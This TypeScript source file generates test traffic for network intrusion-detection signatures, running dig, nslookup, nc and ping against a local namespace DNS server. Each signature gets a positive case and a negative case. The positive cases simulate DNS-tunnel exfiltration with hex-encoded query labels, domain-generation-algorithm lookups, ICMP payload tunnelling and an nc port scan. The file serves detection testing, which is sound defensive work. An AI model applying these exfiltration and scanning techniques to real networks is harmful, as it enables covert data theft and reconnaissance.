/**
 * Real traffic for the signature fixtures and the e2e test: for each builtin signature a
 * positive case (what it exists to find) and a negative one (ordinary traffic of the same kind),
 * made by real tools — dig, nslookup, nc, ping — against bind9's named and netcat in the
 * namespace of a LiveNet (test/record/live-net.ts), with the zones of fixtures/signatures/dns/.
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { H4, N4, N6, sh, type Child, type LiveNet } from '../record/live-net.ts';

export const ZONES = 'fixtures/signatures/dns';

const pause = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** Runs a client to completion; throws when it fails (dig's NXDOMAIN still exits 0). */
async function client(net: LiveNet, cmd: string, args: string[], opts: { inNs?: boolean; stdin?: string } = {}): Promise<Child> {
  const c = net.spawn(cmd, args, opts);
  const code = await c.exited;
  if (code !== 0) throw new Error(`${cmd} ${args.join(' ')} exited ${code}: ${c.stderr}`);
  return c;
}

/** One dig process asking every name of `queries` (batch mode), as one process would. */
async function digBatch(net: LiveNet, server: string, queries: string[]): Promise<Child> {
  const file = join(net.work, `batch-${queries.length}-${Date.now()}.txt`);
  writeFileSync(file, queries.map((q) => `@${server} +tries=1 +time=2 ${q}\n`).join(''));
  return client(net, 'dig', ['-f', file]);
}

/** A deterministic stream of pseudo-random bytes (xorshift32): fixtures differ only in what the kernel varies. */
function bytes(seed: number, n: number): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

/** Tracee's HOWTO for its e2e DNS signature, against the namespace's named. */
export async function e2eDnsPositive(net: LiveNet): Promise<void> {
  for (const type of ['mx', 'ns', 'soa', 'txt']) await client(net, 'nslookup', [`-type=${type}`, 'uol.com.br', N4]);
}

/** The same without the TXT lookup: three of the four answers, no finding. */
export async function e2eDnsNegative(net: LiveNet): Promise<void> {
  for (const type of ['mx', 'ns', 'soa']) await client(net, 'nslookup', [`-type=${type}`, 'uol.com.br', N4]);
}

/** Exfiltration through query names: hex chunks in long labels (one dig), then many short distinct names (another). */
export async function dnsTunnelPositive(net: LiveNet): Promise<void> {
  const chunks = Array.from({ length: 8 }, (_, i) => `${Buffer.from(bytes(1000 + i, 24)).toString('hex')}.${i}.x.tunnel.test TXT`);
  await digBatch(net, N4, chunks);
  await digBatch(
    net,
    N4,
    Array.from({ length: 45 }, (_, i) => `s${i}.c.tunnel.test TXT`),
  );
}

/** Everyday lookups: a handful of names, some repeated. */
export async function dnsTunnelNegative(net: LiveNet): Promise<void> {
  await digBatch(net, N4, ['www.sig.test A', 'mail.sig.test A', 'sig.test MX', 'docs.sig.test A', 'api.sig.test A', 'www.sig.test AAAA', 'www.sig.test A']);
}

const CONSONANTS = 'bcdfghjklmnpqrstvwxz';

/** A domain-generation algorithm's walk: 25 generated names that do not exist. */
export async function dnsNxdomainPositive(net: LiveNet): Promise<void> {
  const names = Array.from({ length: 25 }, (_, i) => {
    const b = bytes(2000 + i, 14);
    return `${Array.from(b, (x) => (x % 3 === 0 ? 'aeiou'[x % 5] : CONSONANTS[x % CONSONANTS.length])).join('')}.sig.test A`;
  });
  await digBatch(net, N4, names);
}

/** Typos happen: two names that do not exist among ordinary lookups. */
export async function dnsNxdomainNegative(net: LiveNet): Promise<void> {
  await digBatch(net, N4, ['www.sig.test A', 'wwww.sig.test A', 'mail.sig.test A', 'mial.sig.test A', 'docs.sig.test A']);
}

/**
 * The fixtures' config (fixtures/signatures/config.json) allows 172.16.17.2 as the resolver:
 * asking the same server over IPv6 is asking a resolver outside the allowlist.
 */
export async function dnsResolverPositive(net: LiveNet): Promise<void> {
  await client(net, 'dig', [`@${N6}`, '+tries=1', '+time=2', 'www.sig.test', 'A']);
}

export async function dnsResolverNegative(net: LiveNet): Promise<void> {
  await client(net, 'dig', [`@${N4}`, '+tries=1', '+time=2', 'www.sig.test', 'A']);
}

/** An nc listener on the host side, for clients in the namespace. */
async function hostListener(net: LiveNet, port: number): Promise<Child> {
  const child = net.spawn('timeout', ['20', 'nc', '-N', '-l', H4, String(port)], { stdin: 'from host\n' });
  for (let i = 0; i < 100; i++) {
    if (sh('ss', ['-Hltn', `sport = :${port}`]).trim() !== '') return child;
    await pause(50);
  }
  throw new Error(`nc on ${H4}:${port} is not listening`);
}

async function nsListener(net: LiveNet, port: number): Promise<Child> {
  const child = net.spawn('timeout', ['20', 'nc', '-N', '-l', N4, String(port)], { inNs: true, stdin: 'from namespace\n' });
  for (let i = 0; i < 100; i++) {
    if (net.inNs('ss', ['-Hltn', `sport = :${port}`]).trim() !== '') return child;
    await pause(50);
  }
  throw new Error(`nc on ${N4}:${port} is not listening`);
}

/** nc to an address given as a number: nothing resolved it. */
export async function unresolvedConnectPositive(net: LiveNet): Promise<void> {
  const srv = await nsListener(net, 5010);
  await client(net, 'nc', ['-N', N4, '5010'], { stdin: 'hello\n' });
  await srv.exited;
}

/**
 * nc in the namespace connects to svc.sig.test, which it resolves itself through the
 * namespace's resolv.conf (`ip netns exec` mounts /etc/netns/<ns>/resolv.conf over /etc's).
 */
export async function unresolvedConnectNegative(net: LiveNet): Promise<void> {
  const etc = `/etc/netns/${net.ns}`;
  mkdirSync(etc, { recursive: true });
  writeFileSync(join(etc, 'resolv.conf'), `nameserver ${N4}\noptions attempts:1 timeout:2\n`);
  try {
    const srv = await hostListener(net, 5011);
    await client(net, 'nc', ['-N', 'svc.sig.test', '5011'], { inNs: true, stdin: 'hello\n' });
    await srv.exited;
  } finally {
    rmSync(etc, { recursive: true, force: true });
  }
}

/** ping -p puts chosen bytes in every echo ('exfiltration' in hex), ping -s 3000 sends echoes larger than a frame. */
export async function icmpTunnelPositive(net: LiveNet): Promise<void> {
  await client(net, 'ping', ['-c', '3', '-i', '0.2', '-W', '2', '-p', Buffer.from('exfiltration').toString('hex'), N4]);
  await client(net, 'ping', ['-c', '2', '-i', '0.2', '-W', '2', '-s', '3000', N4]);
}

/** Plain pings, a large-but-one-frame ping and an IPv6 ping: ping's own pattern. */
export async function icmpTunnelNegative(net: LiveNet): Promise<void> {
  await client(net, 'ping', ['-c', '3', '-i', '0.2', '-W', '2', N4]);
  await client(net, 'ping', ['-c', '2', '-i', '0.2', '-W', '2', '-s', '1400', N4]);
  await client(net, 'ping', ['-6', '-c', '2', '-i', '0.2', '-W', '2', N6]);
}

/** nc -z probing ports 1-40 of the namespace: all closed but named's 53. */
export async function synScanPositive(net: LiveNet): Promise<void> {
  // nc -z exits 1 when the last port is closed: its probes are what counts.
  const c = net.spawn('nc', ['-z', '-w', '1', N4, '1-40']);
  await c.exited;
}

/** Two ordinary connections to two services. */
export async function synScanNegative(net: LiveNet): Promise<void> {
  for (const port of [5012, 5013]) {
    const srv = await nsListener(net, port);
    await client(net, 'nc', ['-N', N4, String(port)], { stdin: 'hello\n' });
    await srv.exited;
  }
}

export interface FixtureCase {
  /** The signature the pair is for. */
  signature: string;
  name: string;
  positive: (net: LiveNet) => Promise<void>;
  negative: (net: LiveNet) => Promise<void>;
}

export const CASES: FixtureCase[] = [
  { signature: 'DNS', name: 'e2e-dns', positive: e2eDnsPositive, negative: e2eDnsNegative },
  { signature: 'NETREC-DNS-TUNNEL', name: 'dns-tunnel', positive: dnsTunnelPositive, negative: dnsTunnelNegative },
  { signature: 'NETREC-DNS-NXDOMAIN', name: 'dns-nxdomain', positive: dnsNxdomainPositive, negative: dnsNxdomainNegative },
  { signature: 'NETREC-DNS-RESOLVER', name: 'dns-resolver', positive: dnsResolverPositive, negative: dnsResolverNegative },
  { signature: 'NETREC-UNRESOLVED-CONNECT', name: 'unresolved-connect', positive: unresolvedConnectPositive, negative: unresolvedConnectNegative },
  { signature: 'NETREC-ICMP-TUNNEL', name: 'icmp-tunnel', positive: icmpTunnelPositive, negative: icmpTunnelNegative },
  { signature: 'NETREC-SYN-SCAN', name: 'syn-scan', positive: synScanPositive, negative: synScanNegative },
];
